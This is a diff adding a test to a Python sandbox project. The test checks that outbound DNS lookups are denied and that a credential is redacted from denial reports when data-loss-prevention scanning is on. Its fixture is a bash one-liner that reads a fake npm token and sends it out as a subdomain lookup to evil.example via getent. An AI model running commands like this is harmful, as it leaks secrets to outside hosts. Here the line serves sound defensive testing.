@@ -17,10 +17,12 @@ from _support.inspected import ANSWER, NAME
 from _support.internet import Host, Internet
 from _support.planted import plant
 from _support.scanned import SCAN, TOKEN, ScannedHost, chunked, get, post, scanned
+from pysandbox import Cage, Event, Policy
 from pysandbox.dlp.canary import OF_VARIABLES, new_values
 from pysandbox.dlp.registry import BY_NAME
 from pysandbox.dlp.scope import may_go
 from pysandbox.policy.names import canonical
+from pysandbox.runtime.runtime import Runtime
 
 from .network import attack
 
@@ -182,3 +184,21 @@ def test_a_name_that_is_refused_is_told_without_the_credential_in_it(net_host: H
     assert token.lower() in told[0] and token.lower() not in told[1] and token[20:].lower() not in told[1]
     assert all("a-word.elsewhere.example" in each for each in told) and "a name" in told[1]
     assert not [each for each in net.questions() if token.lower()[:20] in each]
+
+
+def test_a_child_that_was_started_with_one_is_told_without_it() -> None:
+    """What it asks for is in its arguments as well. Without a scan both are told: the control."""
+    token = "npm_" + "k7Qz9WmB2x" * 3 + "v4Lt8Y"
+    script = "t=$(cat); getent hosts $t.evil.example; getent hosts a-word.evil.example; true"
+    told = []
+    for more in ({}, {"dlp_enabled": True}):
+        events: list[Event] = []
+        runtime = Runtime(warm=0, sink=events.append)
+        try:
+            policy = Policy(hosts=["origin.example"], **more)
+            result = Cage(policy, runtime=runtime).run(["bash", "-c", script], input=token)
+        finally:
+            runtime.drain()
+        assert len(result.denials) == 2 and result.denials[0].argv, result
+        told.append(f"{result.denials} {events}")
+    assert token in told[0] and token not in told[1] and "a-word.evil.example" in told[1] and "getent" in told[1]
